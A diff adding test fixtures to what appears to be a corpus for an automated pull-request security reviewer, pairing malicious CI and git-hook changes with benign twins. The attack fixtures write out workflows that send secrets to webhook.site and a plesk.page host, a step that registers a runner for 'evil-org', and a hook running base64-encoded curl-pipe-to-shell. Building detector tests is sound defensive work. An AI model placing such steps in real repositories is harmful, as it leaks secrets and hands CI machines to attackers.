@@ -2925,6 +2925,188 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-shai-hulud-workflow-heredoc-all-secrets',
+    description:
+      'Modeled on the September 2025 Shai-Hulud write-ups: a pushed workflow puts ${{ toJSON(secrets) }} into a shell variable through a here-document in a command substitution, then curls that variable to webhook.site. The secrets reach the network only through a variable the script assigns.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinycolor',
+        number: 7361,
+        title: 'ci: add workflow',
+        files: [
+          {
+            path: '.github/workflows/shai-hulud-workflow.yml',
+            head: lines(
+              'on: push',
+              'jobs:',
+              '  process:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - run: |',
+              '          CONTENTS="$(cat <<\'EOF\'',
+              '          ${{ toJSON(secrets) }}',
+              '          EOF',
+              '          )"',
+              '          curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-ghostaction-collector-host-in-variables',
+    description:
+      'Modeled on the September 2025 GhostAction write-ups, varied: the collector host (a name spelling a public IP under plesk.page) is assembled from two shell variables, and the secret comes from the step env, sent in the query string.',
+    fixture: () =>
+      attackPr({
+        repo: 'py-utils',
+        number: 7362,
+        author: 'newcomer',
+        title: 'ci: sync',
+        files: [
+          {
+            path: '.github/workflows/sync.yml',
+            head: lines(
+              'name: sync',
+              'on: push',
+              'jobs:',
+              '  sync:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - env:',
+              '          K: ${{ secrets.DOCKERHUB_TOKEN }}',
+              '        run: |',
+              '          H="bold-dhawan"',
+              '          D="$H.45-139-104-115.plesk.page"',
+              '          curl -sk "https://$D/?k=$K" >/dev/null',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-deploy-hook-url-in-variables',
+    description: 'The benign twin: a deploy step builds its own service URL from variables and passes the deploy key in the query string, the way Render and similar deploy hooks expect. No collector host.',
+    fixture: () =>
+      attackPr({
+        repo: 'storefront',
+        number: 7363,
+        title: 'ci: trigger the deploy hook',
+        files: [
+          {
+            path: '.github/workflows/deploy.yml',
+            head: lines(
+              'name: deploy',
+              'on:',
+              '  push:',
+              '    branches: [main]',
+              'jobs:',
+              '  deploy:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - env:',
+              '          HOOK: ${{ secrets.RENDER_DEPLOY_KEY }}',
+              '        run: |',
+              '          BASE="https://api.render.com/deploy"',
+              '          URL="$BASE/srv-cq1abc"',
+              '          curl -fsS -X POST "$URL?key=$HOOK"',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-ci-step-registers-runner',
+    description:
+      'Modeled on the November 2025 Shai-Hulud 2.0 write-ups: a "debug step" in the existing CI workflow downloads the Actions runner, configures it against a repository of another owner and starts it in the background, making each CI machine that runs the PR a runner someone else controls.',
+    fixture: () =>
+      attackPr({
+        repo: 'widget-kit',
+        number: 7364,
+        author: 'newcomer',
+        title: 'ci: add debug step',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: lines('name: CI', 'on:', '  push:', '  pull_request:', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${'11bd71901bbe5b1630ceea73d27597364c9af683'}`, '      - run: npm ci', '      - run: npm test'),
+            head: lines(
+              'name: CI',
+              'on:',
+              '  push:',
+              '  pull_request:',
+              'jobs:',
+              '  build:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              `      - uses: actions/checkout@${'11bd71901bbe5b1630ceea73d27597364c9af683'}`,
+              '      - run: npm ci',
+              '      - run: |',
+              '          mkdir -p /tmp/.r && cd /tmp/.r',
+              '          curl -sL -o r.tgz https://github.com/actions/runner/releases/download/v2.321.0/actions-runner-linux-x64-2.321.0.tar.gz && tar xzf r.tgz',
+              '          ./config.sh --unattended --url https://github.com/evil-org/sink --token AAAAQWERTY --name ci-$RANDOM',
+              '          nohup ./run.sh >/dev/null 2>&1 &',
+              '      - run: npm test',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-githooks-folder-decoded-command',
+    description:
+      'A newcomer sets core.hooksPath to .githooks from the prepare script and adds a post-checkout hook whose node -e runs a base64-decoded command (curl … | sh): every contributor who installs runs it on each checkout.',
+    fixture: () =>
+      attackPr({
+        repo: 'app-shell',
+        number: 7365,
+        author: 'newcomer',
+        title: 'chore: git hooks',
+        files: [
+          { path: 'package.json', base: json({ name: 'app-shell', version: '1.0.0', scripts: { test: 'jest' } }), head: json({ name: 'app-shell', version: '1.0.0', scripts: { test: 'jest', prepare: 'git config core.hooksPath .githooks' } }) },
+          { path: '.githooks/post-checkout', head: lines('#!/bin/sh', 'node -e "require(\'child_process\').execSync(Buffer.from(\'Y3VybCAtcyBodHRwczovL2V4YW1wbGUtY2RuLmNvbS94IHwgc2g=\',\'base64\').toString())"') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
+  },
+  {
+    id: 'attack-githooks-folder-lint-staged',
+    description: 'The benign twin: a maintainer points core.hooksPath at .githooks and adds a pre-commit hook that runs lint-staged, as a husky hook would.',
+    fixture: () =>
+      attackPr({
+        repo: 'app-shell',
+        number: 7366,
+        title: 'chore: run lint-staged before commits',
+        files: [
+          { path: 'package.json', base: json({ name: 'app-shell', version: '1.0.0', scripts: { test: 'jest' } }), head: json({ name: 'app-shell', version: '1.0.0', scripts: { test: 'jest', prepare: 'git config core.hooksPath .githooks' } }) },
+          { path: '.githooks/pre-commit', head: lines('#!/bin/sh', 'npx lint-staged') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
+  {
+    id: 'attack-makefile-docker-run-after-then',
+    description: 'A newcomer adds a lint target whose recipe runs an unpinned third-party image inside an if (`if [ -n "$$CI" ]; then docker run … lintco/linter:latest run; fi`), handing it the workspace and GITHUB_TOKEN.',
+    fixture: () =>
+      attackPr({
+        repo: 'gocli',
+        number: 7367,
+        author: 'newcomer',
+        title: 'build: add lint target',
+        files: [
+          {
+            path: 'Makefile',
+            base: lines('IMAGE ?= acme/builder', '', 'build:', '\tgo build ./...'),
+            head: lines('IMAGE ?= acme/builder', '', 'build:', '\tgo build ./...', '', 'lint:', '\tif [ -n "$$CI" ]; then docker run --rm -v $$PWD:/src -e GITHUB_TOKEN lintco/linter:latest run; fi'),
+          },
+        ],
+      }),
+    expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['docker-unpinned-image'] },
+  },
+  {
     id: 'attack-test-script-unsets-secret-named-variables',
     description:
       'The benign twin of a secret-named pick: a test script clears every variable named like a token or secret before it runs the suite (`compgen -e | grep -iE \'token|secret\'` fed to `unset`), and masks those it keeps in CI logs; its only request fetches a fixture. Nothing is sent.',
